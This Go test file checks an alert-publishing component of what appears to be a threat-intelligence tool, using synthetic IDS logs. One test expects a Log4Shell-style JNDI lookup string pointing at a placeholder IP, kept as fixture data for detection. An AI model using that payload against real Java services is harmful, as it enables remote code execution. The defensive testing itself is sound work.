package observe_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/opencure/cure"
	"github.com/opencure/cure/internal/publish"
	"github.com/opencure/cure/internal/publish/observe"
	"github.com/opencure/cure/internal/publish/publishtest"
	"github.com/opencure/cure/internal/scenario"
)

// ownSide is the own side of the tests of alerts.
var ownSide = []string{"203.0.113.0/26", "hinata.example", "@hinata.example"}

func TestAlertsGolden(t *testing.T) {
	goldenInto(t, &publishtest.Hub{Own: ownSide}, "alerts", observe.Alerts(), "alerts/ids", nil)
}

func TestAlertsBroken(t *testing.T) {
	goldenInto(t, &publishtest.Hub{Own: ownSide}, "alerts-broken", observe.Alerts(), "alerts/ids", nil)
}

func TestAlertsOfOtherProducts(t *testing.T) {
	goldenInto(t, &publishtest.Hub{Own: append(ownSide, "2001:db8::/64")}, "alerts-products", observe.Alerts(), "alerts/soc", nil)
}

// TestAlertsWalls: what firewalls blocked; what they let through is passed over.
func TestAlertsWalls(t *testing.T) {
	goldenInto(t, &publishtest.Hub{Own: append(ownSide, "2001:db8::/64")}, "alerts-walls", observe.Alerts(), "alerts/fw", nil)
}

func FuzzAlerts(f *testing.F) {
	fuzzDecoder(f, observe.Alerts(), publish.Options{Source: "alerts/a", Own: publish.NewOwnSide(ownSide)}, "alerts.in", "alerts-broken.in", "alerts-products.in", "alerts-walls.in")
}

// TestAlertsKeepOwnHosts: the own host is what an alert is about; what a user
// asked for, his name and the payload do not leave.
func TestAlertsKeepOwnHosts(t *testing.T) {
	h := &publishtest.Hub{Own: ownSide}
	runInto(t, h, observe.Alerts(), "alerts/a", nil, filepath.Join("testdata", "alerts.in"))
	all := everything(t, h)
	for _, secret := range []string{"hanako-pc", `"hanako"`, "private words", "R0VUIC9", "ids-tokyo-1"} {
		if i := strings.Index(all, secret); i >= 0 {
			t.Errorf("%s left: …%q…", secret, all[max(0, i-100):min(len(all), i+60)])
		}
	}
	for _, kept := range []string{"203.0.113.20", "c2b.kagerou.example", "${jndi:ldap://198.51.100.8/a}", "CN=www.hinata.example"} {
		if !strings.Contains(all, kept) {
			t.Errorf("%s is missing", kept)
		}
	}
}

// TestAlertsAnyCheckpoint kills the hub at every batch: the counts are those
// of one run.
func TestAlertsAnyCheckpoint(t *testing.T) {
	in := filepath.Join(t.TempDir(), "eve.json")
	if err := os.WriteFile(in, eveLog(3000), 0o600); err != nil {
		t.Fatal(err)
	}
	whole, _ := run(t, observe.Alerts(), "alerts/a", nil, in)
	want := counted(whole)
	cfg := publish.Config{Source: "alerts/a", Publisher: observe.Alerts(), Now: now, Checkpoint: 2}
	publishtest.KillEach(t, cfg, nil, func(kill uint64, h *publishtest.Hub) {
		if got := counted(h); got != want {
			t.Errorf("killed at batch %d: %s, want %s", kill, got, want)
		}
	}, in)
}

// counted adds up what a hub holds.
func counted(h *publishtest.Hub) string {
	n, records := uint64(0), map[cure.ID]bool{}
	for _, r := range h.Records {
		records[r.ID] = true
		for _, o := range r.Observations {
			n += uint64(o.Count)
		}
	}
	return fmt.Sprintf("%d observations in %d records", n, len(records))
}

// eveLog is a storm: a few rules on many hosts, in order of time.
func eveLog(n int) []byte {
	var b bytes.Buffer
	at := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		at = at.Add(20 * time.Millisecond)
		fmt.Fprintf(&b, `{"timestamp":"%s","flow_id":%d,"event_type":"alert","host":"ids-tokyo-1","src_ip":"198.18.%d.%d","src_port":%d,`+
			`"dest_ip":"203.0.113.%d","dest_port":80,"proto":"TCP","app_proto":"http","alert":{"action":"allowed","gid":1,"signature_id":%d,"rev":3,`+
			`"signature":"ET EXPLOIT Example Attempt (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,`+
			`"metadata":{"cve":["CVE_2021_44228"],"mitre_technique_id":["T1190"]}},"http":{"hostname":"203.0.113.5","url":"/a?i=%d","http_user_agent":"x","http_method":"GET","status":404},`+
			`"flow":{"pkts_toserver":4,"pkts_toclient":4,"bytes_toserver":641,"bytes_toclient":676,"start":"2026-11-01T00:00:00.000000+0000"},"payload":"R0VUIC9hIEhUVFAvMS4xDQpIb3N0OiAyMDMuMC4xMTMuNQ0KDQo="}`+"\n",
			at.Format("2006-01-02T15:04:05.000000Z0700"), i, i%3, i%50, 1024+i%60000, i%4, 9000000+i%3, i%20)
	}
	return b.Bytes()
}

func BenchmarkAlertsRun(b *testing.B) {
	log := eveLog(20000)
	path := filepath.Join(b.TempDir(), "eve.json")
	if err := os.WriteFile(path, log, 0o600); err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(log)))
	b.ReportAllocs()
	for b.Loop() {
		_, err := publish.Run(b.Context(), publish.Config{
			Source: "alerts/a", Publisher: observe.Alerts(), Sink: &nowhere{}, Now: time.Now,
		}, path)
		if err != nil {
			b.Fatal(err)
		}
	}
	report(b, bytes.Count(log, []byte("\n")))
}

// TestAlertsOfTheStory: the camera's talk with C2-2 is seven minute groups of
// one incident.
func TestAlertsOfTheStory(t *testing.T) {
	story := scenario.New(1, now())
	in := filepath.Join(t.TempDir(), "eve.json")
	if err := os.WriteFile(in, story.Of("alerts")[0].Data, 0o600); err != nil {
		t.Fatal(err)
	}
	h := &publishtest.Hub{Own: []string{scenario.OwnNetwork, scenario.OwnDomain}}
	runInto(t, h, observe.Alerts(), scenario.Alerts, nil, in)
	groups, incidents, files := map[cure.ID]bool{}, map[string]bool{}, 0
	for _, r := range h.Records {
		for _, o := range r.Observations {
			switch o.Observable.Value {
			case scenario.C2Second:
				groups[r.ID] = true
				if o.Role != cure.RoleC2 {
					t.Errorf("C2-2 is %s", o.Role)
				}
				incidents[r.Attrs[slices.IndexFunc(r.Attrs, func(a cure.Attr) bool { return a.Name == "incident" })].Value] = true
			case scenario.Hash("S1"):
				files++
			}
		}
	}
	if len(groups) != 7 || len(incidents) != 1 || files != 1 {
		t.Errorf("%d groups in %d incidents, S1 in %d records; want 7, 1, 1", len(groups), len(incidents), files)
	}
}
